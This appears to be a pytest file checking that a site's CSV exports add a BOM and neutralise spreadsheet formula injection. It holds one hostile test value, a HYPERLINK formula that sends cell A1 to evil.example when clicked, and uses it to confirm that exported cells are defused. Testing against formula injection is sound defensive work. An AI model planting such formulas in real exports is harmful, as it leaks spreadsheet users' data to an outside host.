"""Every CSV the site offers goes through one writer: a BOM for Excel, and no cell that runs as a formula."""

from __future__ import annotations

import csv
import io

from roadshow.csvsafe import csv_text
from roadshow.extensions import db
from roadshow.services.reports import build as reports
from tests.reports.factories import make_response, make_session

ATTACK = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'


def _cells(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def test_the_writer_quotes_formulas_and_keeps_numbers():
    cells = _cells(csv_text([["label", "n"], [ATTACK, -3], ["+1", 2.5]]))
    assert cells[1] == ["'" + ATTACK, "-3"]
    assert cells[2] == ["'+1", "2.5"]


def test_the_report_export_cannot_carry_a_formula(client, users, login, monkeypatch):
    """A label that starts with "=" (today only our own wording reaches this file) is defused."""
    session = make_session()
    for _ in range(25):
        make_response(session)
    db.session.commit()
    monkeypatch.setattr(reports, "scope_label", lambda _f: ATTACK)
    login(users["panel"])
    text = client.get("/reports/export.csv", buffered=True).get_data(as_text=True)
    scopes = {row[1] for row in _cells(text)[1:]}
    assert scopes == {"'" + ATTACK}
